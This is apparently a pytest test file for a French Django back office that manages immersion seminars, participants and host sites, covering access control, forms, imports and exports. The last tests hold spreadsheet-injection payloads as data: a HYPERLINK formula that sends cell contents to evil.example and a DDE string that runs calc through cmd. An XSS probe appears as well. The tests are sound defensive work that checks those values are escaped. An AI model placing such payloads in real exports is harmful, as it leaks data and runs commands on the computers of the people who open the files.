import datetime as dt

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from immersion.common.tabular import write_table
from immersion.people.models import Participant
from immersion.seminars.models import SeminarStatus
from immersion.sites.models import HostSite, Offer
from tests.conftest import page
from tests.factories import ParticipantFactory, SeminarFactory, SiteFactory, UserFactory, make_offer

pytestmark = pytest.mark.django_db


def test_anonymous_visitor_is_sent_to_the_sign_in_page(client, seminar):
    response = client.get(reverse("organizer:seminar_detail", args=[seminar.pk]))
    assert response.status_code == 302
    assert response.url.startswith(reverse("public:login"))


def test_home_page_is_public(client):
    response = client.get("/")
    assert response.status_code == 200
    assert "Vivez ma vie d'usager" in page(response)


def test_organizer_signs_in_with_email_and_password(client, organizer):
    response = client.post(
        reverse("public:login"),
        {"username": organizer.email.upper(), "password": "motdepasse-de-test"},
    )
    assert response.status_code == 302
    # The password is only the first step: the second factor comes next (enrolment here).
    assert client.get("/").url.startswith(reverse("public:second_factor_enrol"))


def test_wrong_password_shows_a_french_error(client, organizer):
    response = client.post(
        reverse("public:login"), {"username": organizer.email, "password": "non"}
    )
    assert "Adresse e-mail ou mot de passe incorrect" in page(response)


@pytest.mark.parametrize("role", ["participant", "tutor", "site_coordinator", "expert"])
def test_other_roles_are_refused_the_back_office(client, seminar, role):
    client.force_login(UserFactory(role=role))
    assert client.get(reverse("organizer:seminar_list")).status_code == 403
    assert client.get(reverse("organizer:participant_list", args=[seminar.pk])).status_code in (
        403,
        404,
    )


def test_organizer_cannot_open_someone_elses_seminar(organizer_client):
    other = SeminarFactory(organizers=[UserFactory(role="organizer")])
    assert (
        organizer_client.get(reverse("organizer:seminar_detail", args=[other.pk])).status_code
        == 404
    )


def test_seminar_list_shows_only_my_seminars(organizer_client, seminar):
    SeminarFactory(title="Séminaire d'un autre", organizers=[UserFactory(role="organizer")])
    content = page(organizer_client.get(reverse("organizer:seminar_list")))
    assert seminar.title in content
    assert "Séminaire d'un autre" not in content


def test_seminar_page_shows_the_programme_as_a_timeline(organizer_client, seminar):
    content = page(organizer_client.get(reverse("organizer:seminar_detail", args=[seminar.pk])))
    for text in [
        "14:00",
        "16:30",
        "18:00",
        "08:30",
        "11:30",
        "13:00",
        "15:30",
        "16:00",
        "18:35",
        "Dîner avec des élus locaux",
        "Repas commun avec les tuteurs",
        "Analyse partagée",
        "jeudi 18 mars 2027",
        "vendredi 19 mars 2027",
    ]:
        assert text in content, text


def test_seminar_page_query_count_does_not_grow_with_offers(
    organizer_client, seminar, django_assert_max_num_queries
):
    for i in range(6):
        make_offer(seminar, SiteFactory(name=f"Site {i}"))
        ParticipantFactory(seminar=seminar)
    # The first request after sign-in starts the inactivity clock (one session write):
    # the page is measured as it is served afterwards.
    organizer_client.get(reverse("organizer:seminar_list"))
    with django_assert_max_num_queries(20):  # 16 with the checklist of the seminar's life
        organizer_client.get(reverse("organizer:seminar_detail", args=[seminar.pk]))
    with django_assert_max_num_queries(12):
        organizer_client.get(reverse("organizer:offer_list", args=[seminar.pk]))
    with django_assert_max_num_queries(12):
        organizer_client.get(reverse("organizer:participant_list", args=[seminar.pk]))


def test_create_a_seminar_from_the_form(organizer_client):
    response = organizer_client.post(
        reverse("organizer:seminar_create"),
        {"title": "Immersion à Nantes", "city_code": "44109", "start_date": "2027-05-20"},
    )
    assert response.status_code == 302
    content = page(organizer_client.get(response.url))
    assert "Immersion à Nantes" in content and "Nantes (44109)" in content and "18:35" in content


def test_seminar_form_errors_are_shown_in_french(organizer_client):
    response = organizer_client.post(
        reverse("organizer:seminar_create"),
        {"title": "", "city_code": "99999", "start_date": "demain"},
    )
    content = page(response)
    assert response.status_code == 200
    assert "Ce champ est obligatoire" in content
    assert "n'est pas un code commune INSEE valide" in content
    assert "Saisissez une date valide" in content


def test_open_registrations_with_the_button(organizer_client, seminar):
    url = reverse("organizer:seminar_transition", args=[seminar.pk, "open"])
    confirmation = page(organizer_client.get(url))
    assert "Les inscriptions s'ouvrent" in confirmation
    assert 'name="confirme" value="oui"' in confirmation
    response = organizer_client.post(url, {"confirme": "oui"})
    assert response.status_code == 302
    seminar.refresh_from_db()
    assert seminar.status == SeminarStatus.OPEN


def test_a_refused_transition_shows_a_message_and_changes_nothing(organizer_client, seminar):
    response = organizer_client.post(
        reverse("organizer:seminar_transition", args=[seminar.pk, "close"]),
        {"confirme": "oui"},
        follow=True,
    )
    assert "Impossible de passer le séminaire" in page(response)
    seminar.refresh_from_db()
    assert seminar.status == SeminarStatus.DRAFT


def test_a_transition_without_confirmation_changes_nothing(organizer_client, seminar):
    url = reverse("organizer:seminar_transition", args=[seminar.pk, "open"])
    response = organizer_client.post(url, follow=True)
    assert "Rien n'a changé : confirmez l'action" in page(response)
    assert response.redirect_chain[-1][0] == url  # back on the confirmation page
    seminar.refresh_from_db()
    assert seminar.status == SeminarStatus.DRAFT


def test_an_unknown_transition_is_a_404(organizer_client, seminar):
    url = reverse("organizer:seminar_transition", args=[seminar.pk, "effacer"])
    assert organizer_client.get(url).status_code == 404
    assert organizer_client.post(url, {"confirme": "oui"}).status_code == 404


def test_edit_a_programme_item(organizer_client, seminar):
    dinner = seminar.programme_items.get(title="Dîner avec des élus locaux")
    response = organizer_client.post(
        reverse("organizer:programme_edit", args=[seminar.pk, dinner.pk]),
        {
            "day": 1,
            "start": "19:45",
            "end": "22:00",
            "kind": "meal",
            "title": "Dîner à l'hôtel de ville",
        },
    )
    assert response.status_code == 302
    content = page(organizer_client.get(reverse("organizer:seminar_detail", args=[seminar.pk])))
    assert "19:45" in content and "Dîner à l'hôtel de ville" in content


def test_add_an_offer_with_on_site_inspection_defaults(organizer_client, seminar):
    site = SiteFactory(kind="caf")
    half_day = seminar.half_days.first()
    response = organizer_client.post(
        reverse("organizer:offer_add", args=[seminar.pk]),
        {"site": site.pk, "half_day": half_day.pk, "channel": "controle_sur_place"},
    )
    assert response.status_code == 302
    offer = Offer.objects.get()
    assert (offer.capacity, offer.forbidden_categories) == (1, ["journaliste"])


def test_offer_form_refuses_inspection_at_a_ccas(organizer_client, seminar):
    site = SiteFactory(ccas=True)
    response = organizer_client.post(
        reverse("organizer:offer_add", args=[seminar.pk]),
        {
            "site": site.pk,
            "half_day": seminar.half_days.first().pk,
            "channel": "controle_sur_place",
        },
    )
    assert response.status_code == 200
    assert "Caf ou une Cpam" in page(response)
    assert not Offer.objects.exists()


def test_add_a_participant_with_availability_and_preferences(organizer_client, seminar):
    morning = seminar.half_days.get(half_day="J2-matin")
    response = organizer_client.post(
        reverse("organizer:participant_add", args=[seminar.pk]),
        {
            "first_name": "Camille",
            "last_name": "Fontaine",
            "email": "Camille@Example.fr",
            "category": "enseignant",
            "organisation": "Sciences Po",
            "home_commune_code": "75056",
            "available_half_days": [morning.pk],
            "pref_chrs": "3",
            "pref_caf": "0",
        },
    )
    assert response.status_code == 302, page(response)
    camille = Participant.objects.get()
    assert camille.email == "camille@example.fr"
    assert camille.preferences == {"chrs": 3}
    assert [h.half_day for h in camille.available_half_days()] == ["J2-matin"]


def test_participant_email_is_unique_per_seminar(organizer_client, seminar):
    ParticipantFactory(seminar=seminar, email="a@example.fr")
    response = organizer_client.post(
        reverse("organizer:participant_add", args=[seminar.pk]),
        {
            "first_name": "A",
            "last_name": "B",
            "email": "A@example.fr",
            "category": "elu",
            "organisation": "X",
        },
    )
    assert "déjà inscrite" in page(response)


def test_import_page_lists_every_faulty_row_and_imports_nothing(organizer_client, seminar):
    content = (
        "Prénom;Nom;E-mail;Catégorie;Organisme\n"
        "Anne;Rouxel;anne@example.fr;enseignant;Lycée\n"
        "Paul;Durand;;elu;Ville\n"
        "Zoé;Martin;zoe@example.fr;astronaute;NASA\n"
    ).encode()
    response = organizer_client.post(
        reverse("organizer:participant_import", args=[seminar.pk]),
        {"file": SimpleUploadedFile("liste.csv", content)},
    )
    text = page(response)
    assert "Fichier refusé : 2 erreurs" in text
    assert "Ligne 3, colonne « E-mail » : adresse e-mail manquante" in text
    assert "Ligne 4, colonne « Catégorie » : catégorie inconnue « astronaute »" in text
    assert not Participant.objects.exists()


def test_import_page_imports_a_clean_file(organizer_client, seminar):
    content = "Prénom;Nom;E-mail;Catégorie;Organisme\nAnne;Rouxel;anne@example.fr;enseignant;Lycée\n".encode()
    response = organizer_client.post(
        reverse("organizer:participant_import", args=[seminar.pk]),
        {"file": SimpleUploadedFile("liste.csv", content)},
        follow=True,
    )
    assert "1 participant(s) importé(s)" in page(response)
    assert Participant.objects.get().seminar == seminar


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_participant_export_downloads_a_file(organizer_client, seminar, fmt):
    ParticipantFactory(seminar=seminar, last_name="Texier")
    response = organizer_client.get(reverse("organizer:participant_export", args=[seminar.pk, fmt]))
    assert response.status_code == 200
    assert f"participants-seminaire-{seminar.pk}.{fmt}" in response["Content-Disposition"]
    content = body(response)
    if fmt == "csv":
        assert "Texier" in content.decode("utf-8-sig")
    else:
        assert [row["Nom"] for row in sheet_cells(content)] == ["Texier"]


def test_site_import_and_export(organizer_client):
    content = (
        b"Nom;Type;Organisme;Adresse;Code commune\nCCAS de Bruz;CCAS;Ville de Bruz;Place;35047\n"
    )
    organizer_client.post(
        reverse("organizer:site_import"), {"file": SimpleUploadedFile("s.csv", content)}
    )
    assert HostSite.objects.get().commune_name == "Bruz"
    exported = organizer_client.get(reverse("organizer:site_export", args=["csv"])).content.decode(
        "utf-8-sig"
    )
    assert "CCAS de Bruz;ccas;Ville de Bruz" in exported


def test_site_page_lists_tutors_and_offers(organizer_client, seminar):
    from tests.factories import make_tutor

    site = SiteFactory(name="Caf de Rennes")
    make_tutor(site, first_name="Yannick", job_title="Contrôleur assermenté")
    make_offer(seminar, site, channel="controle_sur_place")
    content = page(organizer_client.get(reverse("organizer:site_detail", args=[site.pk])))
    assert "Yannick" in content and "Contrôle sur place" in content and "Journaliste" in content


def test_user_text_is_escaped(organizer_client, seminar):
    ParticipantFactory(seminar=seminar, last_name="<script>alert(1)</script>")
    response = organizer_client.get(reverse("organizer:participant_list", args=[seminar.pk]))
    assert "<script>alert(1)</script>" not in response.content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in response.content.decode()


def test_date_edit_moves_programme_from_the_form(organizer_client, seminar):
    organizer_client.post(
        reverse("organizer:seminar_edit", args=[seminar.pk]),
        {"title": seminar.title, "city_code": "35238", "start_date": "2027-06-03"},
    )
    seminar.refresh_from_db()
    assert seminar.end_date == dt.date(2027, 6, 4)


def test_withdrawn_participant_leaves_the_list_and_can_be_reinstated(organizer_client, seminar):
    p = ParticipantFactory(seminar=seminar, last_name="Désisteur")
    organizer_client.post(reverse("organizer:participant_withdraw", args=[seminar.pk, p.pk]))
    p.refresh_from_db()
    assert p.withdrawn_at is not None
    text = page(organizer_client.get(reverse("organizer:participant_list", args=[seminar.pk])))
    assert "0 participant" in text and "Désistements" in text
    organizer_client.post(reverse("organizer:participant_reinstate", args=[seminar.pk, p.pk]))
    p.refresh_from_db()
    assert p.withdrawn_at is None


def import_urls(seminar):
    return [
        reverse("organizer:participant_import", args=[seminar.pk]),
        reverse("organizer:site_import"),
    ]


@pytest.mark.parametrize("which", [0, 1])
def test_import_page_refuses_a_file_over_10_mb_saying_its_size(organizer_client, seminar, which):
    content = b"Nom;Type\n" + b"x" * (11 * 1024 * 1024)
    response = organizer_client.post(
        import_urls(seminar)[which], {"file": SimpleUploadedFile("liste.csv", content)}
    )
    assert response.status_code == 200
    assert "Le fichier dépasse 10 Mo (11,0 Mo)" in page(response)
    assert not Participant.objects.exists() and not HostSite.objects.exists()


@pytest.mark.parametrize("which", [0, 1])
def test_import_page_answers_a_damaged_xlsx_in_french_not_with_a_500(
    organizer_client, seminar, which
):
    content = write_table("xlsx", ["Nom", "Type"], [["Caf", "caf"]] * 50)
    response = organizer_client.post(
        import_urls(seminar)[which],
        {"file": SimpleUploadedFile("liste.xlsx", content[: len(content) // 2])},
    )
    assert response.status_code == 200
    assert "Fichier refusé : 1 erreur" in page(response)
    assert "pas un classeur Excel (.xlsx) lisible" in page(response)


FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


def sheet_cells(content: bytes) -> list[dict[str, object]]:
    import io
    import zipfile

    import openpyxl

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml, "a cell was written as a formula"
    rows = list(openpyxl.load_workbook(io.BytesIO(content)).active.values)
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def body(response) -> bytes:
    """A response's bytes, streamed (the participant exports) or not."""
    if response.streaming:
        # Read to its end, the test client closes it (and the xlsx's temporary file).
        return b"".join(response.streaming_content)
    return response.content


def csv_cells(content: bytes) -> list[dict[str, str]]:
    import csv
    import io

    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_participant_export_never_hands_a_participants_text_over_as_a_formula(
    organizer_client, seminar, prefix
):
    attack = f'{prefix}HYPERLINK("http://evil.example/?"&C2&C3,"Menu")'
    dde = f"{prefix}cmd|' /C calc'!A0"
    ParticipantFactory(seminar=seminar, function=attack, accessibility_needs=dde, max_km=30)
    url = reverse("organizer:participant_export", args=[seminar.pk, "csv"])
    [row] = csv_cells(body(organizer_client.get(url)))
    assert (row["Fonction"], row["Besoins d'accessibilité"]) == (f"'{attack}", f"'{dde}")
    assert row["Distance max (km)"] == "30"
    url = reverse("organizer:participant_export", args=[seminar.pk, "xlsx"])
    [row] = sheet_cells(body(organizer_client.get(url)))
    assert (row["Fonction"], row["Besoins d'accessibilité"]) == (attack, dde)
    assert row["Distance max (km)"] == 30


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_site_export_never_hands_a_sites_text_over_as_a_formula(
    organizer_client, organizer, prefix
):
    attack = f'{prefix}HYPERLINK("http://evil.example/","Plan")'
    site = SiteFactory(
        name=f"{prefix}Caf", accessibility_notes=attack, phone="+33 2 99 00 00 01", longitude=-1.69
    )
    site.owners.add(organizer)  # owners export the site's contacts too
    [row] = csv_cells(organizer_client.get(reverse("organizer:site_export", args=["csv"])).content)
    assert (row["Nom"], row["Accessibilité"]) == (f"'{prefix}Caf", f"'{attack}")
    assert row["Téléphone"] == "'+33 2 99 00 00 01"
    assert row["Longitude"] == "-1.69", "a number is not text: no apostrophe"
    [row] = sheet_cells(
        organizer_client.get(reverse("organizer:site_export", args=["xlsx"])).content
    )
    assert (row["Nom"], row["Accessibilité"]) == (f"{prefix}Caf", attack)
    assert row["Téléphone"] == "+33 2 99 00 00 01"
    assert row["Longitude"] == -1.69
